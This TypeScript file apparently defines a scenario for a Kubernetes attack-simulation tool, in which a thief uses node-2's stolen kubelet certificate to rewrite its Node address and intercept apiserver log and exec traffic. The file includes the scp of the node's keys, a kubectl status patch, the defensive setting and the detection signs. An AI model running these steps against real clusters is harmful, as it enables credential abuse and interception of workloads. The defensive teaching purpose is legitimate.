import { atOwnAddress } from '../../attacker/position';
import { addresses } from '../addresses';
import { clientOn } from './client-on';
import { poseAsKubelet } from './pose-as-kubelet';
import type { Scenario } from './scenario';

export const falseNodeAddress: Scenario = {
  id: 'false-node-address',
  title: 'a node that says it lives elsewhere',
  story:
    'Where a node is, its kubelet says: NodeRestriction checks whose Node is written, never what stands in status.addresses. With node-2’s certificate a thief writes the address of a machine of his own there, and from then on the apiserver takes him every log, exec and attach for node-2’s pods: no place on the path is needed, nor node-2 itself. The genuine kubelet writes its address back within seconds, so the thief writes his again.',
  needs:
    'The client certificate of the node whose address is falsified; a machine that the apiserver can reach. No place on the path.',
  evidence:
    'The apiserver’s log request arrives at the attacker’s machine, and what it invents is what kubectl logs prints.',
  attack: ['T1078'],
  setting: {
    name: '--kubelet-certificate-authority',
    open: 'unset (the default): the apiserver believes whatever certificate it is shown',
    fixed: 'the cluster’s CA: whoever is dialled must show a certificate for that address',
  },
  notice:
    'A Node whose InternalIP is outside the machines’ network or changes back and forth (kubectl get nodes -o wide -w); audit events patch nodes/status by system:node:node-2 from two source addresses. Even when the certificate is checked: an approver of serving certificates that believes the Node object would sign one for the false address.',
  sources: [
    'plugin/pkg/admission/noderestriction/admission.go',
    'pkg/kubelet/client/kubelet_client.go (GetConnectionInfo)',
    'CVE-2022-3294 (kubernetes/kubernetes#113757)',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const cluster = await stage.cluster({
      kubelet: { serverTLSBootstrap: true },
      kubeletServing: 'cluster-authority',
      apiserver: twin === 'fixed' ? ['--kubelet-certificate-authority=/etc/kubernetes/pki/ca.crt'] : [],
    });
    const loot = {
      client: cluster.pki.kubeletClients['node-2'],
      serving: cluster.pki.kubeletServing['node-2'],
    };
    await stage.did('attacker', 'scp node-2:/var/lib/kubelet/pki/* .', 'the certificates and keys of node-2');

    await using thief = clientOn(cluster.attackerHost, cluster, { clientCertificate: loot.client });
    const body = {
      status: {
        addresses: [
          { type: 'InternalIP', address: addresses.attacker },
          { type: 'Hostname', address: 'node-2' },
        ],
      },
    };
    const contentType = 'application/merge-patch+json';
    const patch = `kubectl --kubeconfig kubelet.conf patch node node-2 --subresource=status --type=merge -p '{"status":{"addresses":[{"type":"InternalIP","address":"${addresses.attacker}"}, …]}}'`;
    const patched = await thief.request('PATCH', '/api/v1/nodes/node-2/status', {
      body,
      contentType,
      signal,
    });
    if (!patched.ok) return stage.refused('attacker', patch, patched.words);
    await stage.did('attacker', patch, 'node/node-2 patched');

    const fake = await poseAsKubelet(stage, cluster, {
      address: addresses.attacker,
      position: atOwnAddress(`node-2’s address is ${addresses.attacker}`),
      present: loot.serving,
    });
    await fake.isAskedFor('web-2');
  },
};
